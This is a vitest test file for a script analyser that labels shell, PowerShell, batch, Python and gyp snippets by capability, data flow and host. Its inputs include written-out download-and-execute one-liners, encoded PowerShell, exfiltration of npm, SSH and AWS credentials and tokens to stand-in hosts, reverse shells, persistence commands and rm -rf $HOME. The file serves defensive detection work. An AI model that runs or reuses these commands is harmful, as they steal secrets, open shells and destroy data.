// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the holes belong to the code that is read.
// What scripts in other languages do, each in several spellings, exactly: capabilities, arguments that matter, flows.
// Nothing here works: the hosts do not exist.
import { describe, expect, test } from 'vitest'
import { readText, type TextLanguage } from '../../../src/code/text/read.ts'

type Expected = {
  can: readonly string[]
  flows?: readonly string[]
  hosts?: readonly string[]
  disguises?: readonly string[]
}
type Spelling = readonly [language: TextLanguage, source: string]

function read(language: TextLanguage, source: string) {
  const code = readText(language, source)
  const hosts = code.arguments.filter(({ kind }) => kind === 'host').map(({ value }) => value)
  return {
    can: code.capabilities.map(({ name, subject }) => (subject === '' ? name : `${name} ${subject}`)).toSorted(),
    flows: code.flows
      .map(({ source: from, subject, sink }) => [from, subject, sink].filter(Boolean).join(' '))
      .toSorted(),
    hosts: [...new Set(hosts)].toSorted(),
    disguises: code.disguises.map(({ kind }) => kind),
  }
}

const host = 'https://cdn.example.test'
const encoded = (line: string) => Buffer.from(line, 'utf16le').toString('base64')

const table: readonly (readonly [name: string, expected: Expected, ...spellings: Spelling[]])[] = [
  [
    'download piped into a shell',
    { can: ['network-client', 'shell'], flows: ['downloaded execute'], hosts: ['cdn.example.test'] },
    ['shell', `curl -fsSL ${host}/x | sh`],
    ['shell', `wget -qO- ${host}/x | bash -s -- --yes`],
    ['shell', `bash -c "$(curl -s ${host}/x)"`],
    ['shell', `sh <(curl -s ${host}/x)`],
    ['shell', `bash <<< "$(curl -s ${host}/x)"`],
    ['shell', `U=${host}\ncurl "$U/x" |\n  sudo bash`],
    ['shell', `if true; then (curl -s ${host}/x) | sh; fi`],
    ['shell', `sh -c 'curl ${host}/x | sh'`],
    ['gyp', `{"targets": [{"sources": ["<!(curl ${host}/x | sh)"]}]}`],
    ['gyp', `{'targets': [{'actions': [{'action': ['sh', '-c', 'curl ${host}/x | sh']}]}]}`],
    ['gyp', `{'variables': {'x': '<!' '@(curl ${host}/x ' '| sh)'}} # <!(whoami)`],
  ],
  [
    'download into a file that runs',
    {
      can: ['fs-executable', 'fs-temp', 'fs-write', 'network-client', 'process-spawn'],
      flows: ['downloaded execute', 'downloaded write'],
      hosts: ['cdn.example.test'],
    },
    ['shell', `curl -o /tmp/a ${host}/a && chmod +x /tmp/a && /tmp/a`],
    ['shell', `wget ${host}/a -O /tmp/a; chmod 755 /tmp/a; /tmp/a`],
    ['shell', `F=/tmp/a\ncurl ${host}/a > $F\nchmod u+x "$F"\nexec "$F"`],
  ],
  [
    'download into a program for another runtime',
    {
      can: ['fs-temp', 'fs-write', 'network-client', 'other-runtime python'],
      flows: ['downloaded execute', 'downloaded write'],
      hosts: ['cdn.example.test'],
    },
    ['shell', `curl -o /tmp/ld.py ${host}/l && python3 /tmp/ld.py`],
    ['shell', `curl --output /tmp/ld.py ${host}/l; python /tmp/ld.py`],
    ['batch', `curl -o %TEMP%\\ld.py ${host}/l\r\npy %TEMP%\\ld.py`],
  ],
  [
    'download evaluated by PowerShell',
    { can: ['eval', 'network-client'], flows: ['downloaded execute'], hosts: ['cdn.example.test'] },
    ['powershell', `iex (New-Object Net.WebClient).DownloadString('${host}/p')`],
    ['powershell', `IEX(IWR ${host}/p -UseBasicParsing)`],
    ['powershell', `$p = Invoke-WebRequest -Uri ${host}/p\nInvoke-Expression $p.Content`],
    ['powershell', `iwr ${host}/p | iex`],
    ['powershell', `i\`ex (i\`wr ${host}/p)`],
  ],
  [
    'encoded PowerShell',
    {
      can: ['eval', 'network-client', 'other-runtime powershell', 'process-hidden', 'shell'],
      flows: ['decoded execute', 'downloaded execute'],
      hosts: ['cdn.example.test'],
      disguises: ['encoded-blob'],
    },
    ['shell', `powershell -NoP -W Hidden -enc ${encoded(`iex (iwr ${host}/q)`)}`],
    ['batch', `powershell.exe -windowstyle hidden -EncodedCommand ${encoded(`iwr ${host}/q | iex`)}`],
    ['shell', `pwsh -w 1 -e ${encoded(`IEX(New-Object Net.WebClient).DownloadString("${host}/q")`)}`],
  ],
  [
    'decoded and run',
    { can: ['shell'], flows: ['decoded execute'] },
    ['shell', 'echo ZWNobyBoaQ== | base64 -d | sh'],
    ['shell', 'printf %s ZWNobyBoaQ== | base64 --decode | bash'],
    ['shell', 'bash -c "$(echo ZWNobyBoaQ== | base64 -D)"'],
    ['shell', 'echo 6563 | xxd -r -p | sh'],
  ],
  [
    'decrypted and run',
    { can: ['decrypt', 'shell'], flows: ['decrypted execute'] },
    ['shell', 'openssl enc -d -aes-256-cbc -in a -k b | sh'],
    ['shell', 'gpg --decrypt a.gpg | bash'],
    ['shell', 'sh -c "$(openssl aes-256-cbc -d -in a)"'],
  ],
  [
    'a credential sent away',
    {
      can: ['fs-credentials npm', 'fs-read', 'network-client'],
      flows: ['secret npm network'],
      hosts: ['cdn.example.test'],
    },
    ['shell', `cat ~/.npmrc | curl -d @- ${host}`],
    ['shell', `curl --data "$(cat $HOME/.npmrc)" ${host}`],
    ['shell', `X=$(cat ~/.npmrc); curl ${host}/?x=$X`],
  ],
  [
    'a key uploaded',
    { can: ['fs-credentials ssh', 'network-client'], flows: ['secret ssh network'], hosts: ['cdn.example.test'] },
    ['shell', `curl -F f=@$HOME/.ssh/id_rsa ${host}`],
    ['shell', `curl -T ~/.ssh/id_rsa ${host}`],
    ['shell', `curl --upload-file ~/.ssh/id_rsa ${host}`],
  ],
  [
    'a token of the environment',
    {
      can: ['env-secret NPM_TOKEN', 'network-client'],
      flows: ['secret NPM_TOKEN network'],
      hosts: ['cdn.example.test'],
    },
    ['shell', `curl -d "$NPM_TOKEN" ${host}`],
    ['powershell', `irm ${host} -Method Post -Body $env:NPM_TOKEN`],
    ['batch', `curl -d %NPM_TOKEN% ${host}`],
    ['python', `import os, requests\nrequests.post("${host}", data=os.environ["NPM_TOKEN"])`],
    ['python', `import os\nfrom urllib.request import urlopen as u\nt = os.getenv('NPM_TOKEN')\nu('${host}/?' + t)`],
  ],
  [
    'the whole environment',
    { can: ['env-bulk', 'network-client'], flows: ['environment network'], hosts: ['cdn.example.test'] },
    ['shell', `env | curl -X POST --data-binary @- ${host}`],
    ['shell', `curl -d "$(printenv)" ${host}`],
    ['python', `import os, requests as r\nr.post('${host}', json=dict(os.environ))`],
  ],
  [
    'who it is, by DNS',
    { can: ['dns', 'fingerprint user'], flows: ['system whoami dns'] },
    ['shell', 'nslookup $(whoami).x.example.test'],
    ['shell', 'U=`whoami`; dig $U.x.example.test'],
    ['shell', 'host "$(whoami).x.example.test"'],
  ],
  [
    'started again later',
    { can: ['fs-startup cron'] },
    ['shell', '(crontab -l; echo "@reboot /x") | crontab -'],
    ['shell', 'crontab jobs.txt'],
    ['shell', 'echo "@reboot /x" | crontab'],
  ],
  [
    'started with the shell',
    { can: ['fs-startup shell-profile', 'fs-write'] },
    ['shell', 'echo "x &" >> ~/.bashrc'],
    ['shell', 'printf x | tee -a $HOME/.zshrc'],
    ['shell', 'printf "%s" "x &" >> "${HOME}/.profile"'],
  ],
  [
    'started with Windows',
    { can: ['fs-startup registry'] },
    ['batch', 'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v a /d b'],
    ['batch', 'REG.EXE ADD "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run" /v a'],
    ['powershell', 'New-ItemProperty -Path HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run -Name a'],
  ],
  [
    'a task',
    { can: ['fs-startup task'] },
    ['batch', 'schtasks /create /tn a /tr b /sc onlogon'],
    ['powershell', 'Register-ScheduledTask -TaskName a -Action $b'],
    ['batch', '@SCHTASKS.EXE /Create /TN a'],
  ],
  [
    'a service of the user',
    { can: ['fs-startup systemd'] },
    ['shell', 'systemctl --user enable a.service'],
    ['shell', 'sudo systemctl start a'],
    ['shell', 'test -x /bin/a && systemctl daemon-reload'],
  ],
  [
    'a shell for somebody else',
    { can: ['network-client', 'shell'], hosts: ['203.0.113.9'] },
    ['shell', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'],
    ['shell', 'sh > /dev/tcp/203.0.113.9/4444'],
    ['shell', 'dash >& /dev/udp/203.0.113.9/53'],
  ],
  [
    'left behind',
    { can: ['process-detached', 'process-spawn'] },
    ['shell', 'nohup ./run'],
    ['shell', './run &'],
    ['shell', 'setsid ./run'],
  ],
  [
    'a program of its own or from elsewhere',
    { can: ['process-spawn'] },
    ['shell', './tools/setup --now'],
    ['shell', 'npm install -g other@latest'],
    ['shell', 'cd a && tools/setup'],
    ['batch', '.\\tools\\setup.exe'],
  ],
  [
    'spreading',
    { can: ['registry-publish', 'repository-write'] },
    ['shell', 'npm publish --access public && git push origin main'],
    ['shell', 'git push; pnpm publish'],
    ['batch', 'call npm.cmd publish\r\ngit push'],
  ],
  [
    'deleting',
    { can: ['fs-delete'] },
    ['shell', 'rm -rf "$HOME"'],
    ['batch', 'rmdir /s /q %USERPROFILE%'],
    ['powershell', 'Remove-Item -Recurse -Force $HOME'],
  ],
  [
    'Python that runs what it fetches',
    { can: ['eval', 'network-client'], flows: ['downloaded evaluate'], hosts: ['cdn.example.test'] },
    ['python', `import urllib.request as u\nexec(u.urlopen("${host}/p").read())`],
    ['python', `from requests import get\nx = get('${host}/p').text\nexec(x)`],
    ['python', `import requests\nwith requests.get(\n  "${host}/p"\n) as r:\n    eval(compile(r.text, "x", "exec"))`],
  ],
  [
    'Python that runs what it decodes',
    { can: ['eval'], flows: ['decoded evaluate'] },
    ['python', 'import base64\nexec(base64.b64decode("cHJpbnQoMSk="))'],
    ['python', "from base64 import b64decode as d; exec(d('cHJpbnQoMSk='))"],
    ['python', 'x = bytes.fromhex("7072")\neval(x)'],
  ],
  [
    'Python that starts a shell',
    { can: ['network-client', 'process-spawn', 'shell'], flows: ['downloaded execute'], hosts: ['cdn.example.test'] },
    ['python', `import os\nos.system("curl ${host}/x | sh")`],
    ['python', `import os as o; o.popen('curl ${host}/x ' '| sh')`],
    ['python', `import subprocess\nsubprocess.getoutput(r'''curl ${host}/x | sh''')`],
  ],
  [
    'Python inside a shell',
    {
      can: ['eval', 'network-client', 'other-runtime python'],
      flows: ['downloaded evaluate'],
      hosts: ['cdn.example.test'],
    },
    ['shell', `python3 -c "import urllib.request as u;exec(u.urlopen('${host}/p').read())"`],
    ['shell', `python - <<'END'\nimport requests\nexec(requests.get("${host}/p").text)\nEND\n`],
    ['shell', `python3 <<END\nfrom urllib.request import urlopen\nexec(urlopen('${host}/p').read())\nEND`],
  ],
  [
    'Python that reads a credential and sends it',
    { can: ['fs-credentials aws', 'network-client'], flows: ['secret aws network'], hosts: ['cdn.example.test'] },
    [
      'python',
      `import requests\nwith open("~/.aws/credentials") as f:\n  d = f.read()\nrequests.post("${host}", data=d)`,
    ],
    ['python', `import requests\nd = open('/home/x/.aws/credentials').read()\nrequests.post('${host}', d)`],
    ['python', `import requests, pathlib\nrequests.post("${host}", data=pathlib.Path(".aws/credentials").read_text())`],
  ],
]

const honest: readonly (readonly [name: string, can: readonly string[], ...spellings: Spelling[]])[] = [
  [
    'a build',
    [],
    ['shell', 'tsc -p . && node scripts/build.js'],
    ['shell', 'NODE_ENV=production webpack --mode production'],
    ['shell', 'cross-env A=1 rollup -c'],
  ],
  [
    'a native module',
    [],
    ['shell', 'node-gyp rebuild'],
    ['shell', 'prebuild-install || node-gyp rebuild'],
    [
      'gyp',
      "{'targets': [{'target_name': 'a', 'include_dirs': ['<!(node -p \"require(\\'nan\\')\")'], 'sources': ['a.cc']}]}",
    ],
  ],
  [
    'a hook for git',
    [],
    ['shell', 'husky install || true'],
    ['shell', './node_modules/.bin/husky'],
    ['shell', 'patch-package'],
  ],
  [
    'comments',
    [],
    ['shell', '# curl https://cdn.example.test | sh\nexit 0'],
    ['batch', 'rem curl x\r\n:: certutil y\r\nexit /b'],
    ['python', '# import os; os.system("curl x | sh")\nprint(1)'],
    ['powershell', '# iex (iwr https://cdn.example.test)\nexit'],
  ],
  [
    'words in texts',
    [],
    ['shell', 'echo "run curl | sh yourself"'],
    ['python', 'print("os.system is not called")\nhelp = """exec(x)"""'],
    ['powershell', 'Write-Host "use iwr or iex"'],
  ],
  [
    'a system',
    ['fingerprint system'],
    ['shell', 'case "$(uname -s)" in Darwin) echo mac ;; esac'],
    ['shell', 'OS=`uname`'],
    ['shell', 'if [ $(uname -m) = x86_64 ]; then echo 64; fi'],
  ],
  [
    'an archive',
    ['decompress'],
    ['shell', 'tar xzf a.tgz'],
    ['shell', 'unzip -q a.zip'],
    ['python', 'import zipfile\nzipfile.ZipFile("a.zip").extractall("b")'],
  ],
  ['a short pause', [], ['shell', 'sleep 5'], ['shell', 'sleep 2m'], ['powershell', 'Start-Sleep -Seconds 30']],
]

describe('scripts', () => {
  for (const [name, { can, flows = [], hosts = [], disguises = [] }, ...spellings] of table) {
    test.each(spellings)(`${name}: %s %#`, (language, source) => {
      expect(read(language, source)).toEqual({ can, flows, hosts, disguises })
    })
  }
})

describe('honest scripts', () => {
  for (const [name, can, ...spellings] of honest) {
    test.each(spellings)(`${name}: %s %#`, (language, source) => {
      expect(read(language, source)).toEqual({ can, flows: [], hosts: [], disguises: [] })
    })
  }
})

describe('programs for Node', () => {
  test.each([
    ['shell', `node -e "require('x')(1)"`, ["require('x')(1)"]],
    ['shell', "node --eval 'a()' && bun -e 'b()'", ['a()', 'b()']],
    ['shell', 'node <<EOF\na()\nEOF', ['a()\n']],
    ['batch', 'node -p "a()"', ['a()']],
    ['gyp', `{"sources": ["<!(node -e 'a()')"]}`, ['a()']],
    ['shell', 'node setup.js', []],
  ] as const)('%s %s', (language, source, expected) => {
    expect(readText(language, source).javascript).toEqual(expected)
  })
})

test('places are lines of the file', () => {
  const { capabilities } = readText('shell', '#!/bin/sh\nset -e\n\ncurl https://cdn.example.test/x\n')
  expect(capabilities).toEqual([
    { name: 'network-client', subject: '', line: 4, column: 1, excerpt: 'curl https://cdn.example.test/x' },
  ])
})

test('paths of credentials and what is deleted are arguments', () => {
  const { arguments: given } = readText('shell', 'rm -rf /data\ncat ~/.aws/credentials')
  expect(given.map(({ capability, kind, value }) => [capability, kind, value])).toEqual([
    ['fs-delete', 'path', '/data'],
    ['fs-credentials', 'path', '~/.aws/credentials'],
  ])
})
